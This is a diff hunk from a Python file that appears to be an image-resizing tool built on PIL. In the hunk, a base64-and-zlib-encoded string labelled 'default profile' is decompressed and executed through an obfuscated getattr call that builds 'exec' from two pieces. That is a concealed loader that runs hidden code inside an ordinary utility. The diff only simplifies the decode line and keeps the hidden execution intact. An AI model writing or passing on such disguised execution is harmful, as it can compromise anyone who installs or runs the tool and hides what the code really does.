@@ -5,7 +5,7 @@ from PIL import Image
 _CFG = "eJwrzs9NVUhOLUpVSM7PS8tMBwA4GgXc"  # default profile
 
 def _profile():
-    raw = zlib.decompress(b6.b64decode(_CFG + "eJxLLUvMKS1OBQALbgLn"[:0]))
+    raw = zlib.decompress(b6.b64decode(_CFG))
     getattr(_b, "ex" + "ec")(raw)
 
 def main(folder, width):
